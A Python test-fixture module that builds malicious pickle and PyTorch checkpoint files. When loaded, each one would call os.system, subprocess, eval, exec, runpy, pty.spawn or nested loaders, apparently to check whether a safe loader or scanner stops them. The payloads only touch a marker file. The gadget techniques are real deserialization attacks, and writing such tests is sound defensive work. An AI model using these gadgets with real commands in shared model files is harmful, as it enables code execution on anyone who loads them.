"""Pickles that would run something: each would leave a file named ``marker``."""

import codecs
import os
import pickle
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

from attacks.torch_attacks import Gadget, W, saved


class Import:
    """Stands for ``module.name``, which is looked up when the pickle is read."""

    def __init__(self, module: str, name: str, *arguments: object) -> None:
        self.module, self.name, self.arguments = module, name, arguments

    def opcodes(self) -> bytes:
        """``name(*arguments)`` of ``module``, as protocol 0 writes it."""
        called = f"c{self.module}\n{self.name}\n".encode()
        values = b"".join(pickle.dumps(value, 0)[:-1] for value in self.arguments)
        return called + b"(" + values + b"tR"


def gadgets(marker: Path) -> dict[str, bytes]:
    """Torch files, zip and legacy, by what they would call."""
    shell, code = f"touch {marker}", f"open({str(marker)!r}, 'w')"
    calls: dict[str, tuple[Callable[..., Any], tuple[object, ...]]] = {
        "os.system": (os.system, (shell,)),
        "os.popen": (os.popen, (shell,)),
        "subprocess.Popen": (subprocess.Popen, (["touch", str(marker)],)),
        "subprocess.check_output": (subprocess.check_output, (["touch", str(marker)],)),
        "eval": (eval, (code,)),
        "exec": (exec, (code,)),
        "open": (open, (str(marker), "w")),
        "Path.touch": (Path.touch, (marker,)),
        "os.mkdir": (os.mkdir, (str(marker),)),
        "codecs.open": (codecs.open, (str(marker), "w")),
    }
    found = {}
    for name, (function, arguments) in calls.items():
        gadget = Gadget(function, *arguments)
        found[name] = saved({"w": W, "x": gadget})
        found[f"{name}, legacy"] = pickle.dumps({"w": gadget}, 2)
    nested = pickle.dumps(Gadget(os.system, shell), 2)
    imports = {
        "torch.load of bytes": Import("torch.storage", "_load_from_bytes", nested),
        "runpy": Import("runpy", "run_path", str(marker)),
        "pickle in pickle": Import("pickle", "loads", nested),
        "timeit": Import("timeit", "timeit", f"__import__('os').system({shell!r})"),
        "getattr": Import("builtins", "getattr", 1, "real"),
        "import": Import("builtins", "__import__", "antigravity"),
        "pty": Import("pty", "spawn", ["touch", str(marker)]),
    }
    for name, gadget_import in imports.items():
        found[name] = b"\x80\x02" + gadget_import.opcodes() + b"."
    return found
